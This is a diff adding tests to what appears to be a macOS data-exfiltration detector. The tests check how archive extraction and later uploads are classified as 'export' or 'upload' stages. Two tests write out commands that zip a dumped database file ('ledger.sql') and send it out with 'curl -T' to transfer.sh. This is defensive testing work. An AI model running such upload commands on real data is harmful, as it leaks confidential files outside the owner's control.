@@ -550,3 +550,49 @@ describe('the data is followed', () => {
     expect(desk.findings()).toMatchObject([UPLOADED]);
   });
 });
+
+describe('taking an archive apart', () => {
+  const PHOTO = 'Documents/q1/team.jpg';
+  const EXTRACTIONS: readonly (readonly [string, string])[] = [
+    ['unzip', 'unzip Downloads/photos.zip -d Documents/q1'],
+    ['tar', 'tar xzf Downloads/photos.tgz -C Documents/q1'],
+    ['tar', 'tar -C Documents/q1 -x -f Downloads/photos.tgz'],
+    ['ditto', 'ditto -x -k Downloads/photos.zip Documents/q1'],
+    ['7zz', '7zz x Downloads/photos.7z -oDocuments/q1'],
+  ];
+
+  it.each(EXTRACTIONS)(
+    'with %s into the folder of an export takes nothing from there: %s',
+    (name, line) => {
+      const desk = carried(
+        { path: `/usr/bin/${name}`, signingId: `com.apple.${name}` },
+        line,
+        PHOTO,
+      );
+      expect(desk.findings()).toMatchObject([{ stage: 'export', files: [desk.at(SOURCE)] }]);
+    },
+  );
+
+  it('gives what the export’s own archive holds', () => {
+    const desk = new Desk();
+    desk.dump(SOURCE);
+    const zip = desk.type(PROGRAMS.zip, `zip o.zip ${SOURCE}`);
+    desk.story.write(zip, desk.at('o.zip'));
+    const unzip = desk.type({ path: '/usr/bin/unzip' }, 'unzip o.zip -d Pictures');
+    desk.story.write(unzip, desk.at('Pictures/ledger.sql'));
+    desk.type(PROGRAMS.curl, 'curl -T Pictures/ledger.sql https://transfer.sh/');
+    expect(desk.findings()).toMatchObject([{ stage: 'upload' }]);
+  });
+
+  it.each([
+    [300, 'upload'],
+    [5 * 3600, 'export'],
+  ])('by an app that read the export %i s before gives stage %s', (seconds, stage) => {
+    const desk = new Desk();
+    desk.dump(SOURCE);
+    const app = desk.background(MAC_PROGRAMS.archiveUtility);
+    desk.story.open(app, desk.at(SOURCE)).wait(seconds).write(app, desk.at('Downloads/p.zip'));
+    desk.type(PROGRAMS.curl, 'curl -T Downloads/p.zip https://transfer.sh/');
+    expect(desk.findings()).toMatchObject([{ stage }]);
+  });
+});
